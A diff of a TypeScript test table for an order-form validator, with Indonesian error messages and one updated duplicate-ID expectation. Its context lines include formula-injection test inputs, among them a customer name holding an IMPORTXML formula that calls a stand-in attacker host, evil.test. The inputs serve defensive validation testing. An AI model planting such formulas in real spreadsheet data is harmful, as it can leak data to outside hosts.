@@ -53,7 +53,7 @@ const CORPUS: ReadonlyArray<[string, Record<string, string>, string]> = [
   ['ID as a formula', { orderId: '=1+1' }, 'hanya boleh huruf'],
   ['ID typed twice (first)', { orderId: 'TK-DUA' }, 'ID TK-DUA sudah ada di CS · Pesanan baris'],
   ['ID typed twice (second)', { orderId: 'TK-DUA' }, 'ID TK-DUA sudah ada di CS · Pesanan baris'],
-  ['ID already used in Selesai', { orderId: 'TK-LAMA-01' }, 'ID pesanan TK-LAMA-01 sudah dipakai di Gudang · Selesai'],
+  ['ID already used in Selesai', { orderId: 'TK-LAMA-01' }, 'ID TK-LAMA-01 sudah ada di Gudang · Selesai baris 2'],
   ['formula-looking name and unconfirmed variant', { customerName: '=IMPORTXML("http://evil.test","//a")', variantConfirmed: 'Belum' }, 'varian/warna belum dikonfirmasi'],
   ['name like a phone and a bad quantity', { customerName: '+62 812 3456', items: 'TOPI-01 x-3' }, 'jumlah -3 tidak boleh negatif'],
   ['several problems at once', { customerName: '', phone: 'abc', items: 'KAOS-HTM-L x0' }, 'nama pelanggan belum diisi; Baris'],
